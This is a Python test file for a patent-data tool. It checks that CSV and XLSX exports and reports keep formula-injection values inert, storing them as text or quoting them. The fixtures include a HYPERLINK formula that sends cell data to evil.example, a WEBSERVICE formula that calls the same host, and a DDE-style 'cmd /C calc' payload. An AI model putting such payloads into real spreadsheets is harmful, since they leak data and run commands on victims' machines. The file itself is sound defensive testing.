"""Exports never carry live formulas: text a spreadsheet would run is a string cell (xlsx) or quoted (csv)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from ipnav.config import Settings
from tests.conftest import ROOT, cli_json, run_cli

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "applicant": "@SUM(1+1)*cmd /C calc!A0",
    "inventor": "+1+2",
    "abstract": "-2+3 一种方法",
}
# the address and the (leading-space) inventor were stripped at ingest: what is exported starts with the sign
TABLE = (
    "申请号,申请日,名称,申请(专利权)人,发明(设计)人,申请人地址,摘要,法律状态\n"
    f'202110991218.8,2021-08-26,"{HOSTILE["title"].replace(chr(34), chr(34) * 2)}","{HOSTILE["applicant"]}",'
    f'"  {HOSTILE["inventor"]}",江苏省常州市武进区,"{HOSTILE["abstract"]}",有效\n'
    "201410408762.5,2014-08-19,一种石墨烯散热膜,甲公司,张三,江苏省常州市武进区,摘要,有效\n"
)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas") / "ws"
    source = root.parent / "hostile.csv"
    source.write_text(TABLE, encoding="utf-8")
    summary = cli_json("ingest", str(source), workspace=root)
    assert summary["inserted"] == 2  # type: ignore[index]
    return root


def _xlsx_cells(path: Path) -> tuple[list[str], list[str]]:
    """Formula elements and the text of every cell of every sheet (read from the XML, not through openpyxl)."""
    formulas: list[str] = []
    texts: list[str] = []
    with zipfile.ZipFile(path) as book:
        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in book.namelist() else ""
        for name in book.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = book.read(name).decode()
                formulas += re.findall(r"<f>(.*?)</f>", xml)
                texts += re.findall(r"<t[^>]*>(.*?)</t>", xml)
        texts += re.findall(r"<t[^>]*>(.*?)</t>", shared)
    return formulas, texts


def _assert_inert_xlsx(path: Path) -> None:
    formulas, _ = _xlsx_cells(path)
    assert formulas == [], f"{path.name} has formulas {formulas}"
    book = openpyxl.load_workbook(path)
    values = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in values), "the title is kept as text"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_quoted_csv(text: str, *, title: bool = True) -> None:
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    for cell in cells:
        assert not re.match(r"^\s*[=+\-@\t\r]", cell) or cell.startswith("'") or _number(cell), cell
    assert not title or "'" + HOSTILE["title"] in cells


def test_cli_export_xlsx_and_csv_carry_no_formula(ws: Path, tmp_path: Path) -> None:
    xlsx, out_csv = tmp_path / "all.xlsx", tmp_path / "all.csv"
    assert run_cli("export", "--format", "xlsx", "--out", str(xlsx), workspace=ws).returncode == 0
    assert run_cli("export", "--format", "csv", "--out", str(out_csv), workspace=ws).returncode == 0
    _assert_inert_xlsx(xlsx)
    text = out_csv.read_text(encoding="utf-8")
    _assert_quoted_csv(text)
    assert "'" + HOSTILE["applicant"] in text and "'" + HOSTILE["inventor"] in text
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert {r["权利要求数 claims_count"] for r in rows} <= {"0", "1", ""}  # numbers are not quoted


def test_web_search_export_carries_no_formula(ws: Path) -> None:
    client = TestClient(create_app_public(ws))
    xlsx = client.get("/search/export", params={"q": "ad>=2010", "format": "xlsx"})
    assert xlsx.status_code == 200
    path = ws / "web.xlsx"
    path.write_bytes(xlsx.content)
    _assert_inert_xlsx(path)
    _assert_quoted_csv(client.get("/search/export", params={"q": "ad>=2010", "format": "csv"}).text)


def test_navigation_and_indicator_reports_carry_no_formula(ws: Path, tmp_path: Path) -> None:
    report = tmp_path / "nav.xlsx"
    result = run_cli("report", "-s", "all", "--format", "xlsx", "--out", str(report), workspace=ws)
    assert result.returncode == 0, result.stderr
    _assert_inert_xlsx(report)
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"ind.{suffix}"
        result = run_cli("indicator", "applications", "--region", "常州", "--patents", "--output", str(out),
                         workspace=ws)  # fmt: skip
        assert result.returncode == 0, result.stderr
        if suffix == "xlsx":
            assert _xlsx_cells(out)[0] == []
        else:
            _assert_quoted_csv(out.read_text(encoding="utf-8"), title=False)


def test_plan_report_keeps_a_recorded_formula_as_text(ws: Path, tmp_path: Path) -> None:
    plan = ROOT / "tests" / "fixtures" / "plans" / "rules.yaml"
    assert run_cli("plan", "add", str(plan), workspace=ws).returncode == 0
    recorded = run_cli("plan", "record", "rules-2022-2025", "empty", "4", "--date", "2023-06-30",
                       "--source", "=WEBSERVICE(\"http://evil.example\")", workspace=ws)  # fmt: skip
    assert recorded.returncode == 0, recorded.stderr
    out = tmp_path / "plan.xlsx"
    result = run_cli("plan", "report", "rules-2022-2025", "--format", "xlsx", "-o", str(out), workspace=ws)
    assert result.returncode == 0, result.stderr
    formulas, texts = _xlsx_cells(out)
    assert formulas == [] and any("WEBSERVICE" in t for t in texts)


def create_app_public(ws: Path):  # type: ignore[no-untyped-def]
    from ipnav.web.app import create_app

    return create_app(Settings(workspace=ws, public=True))
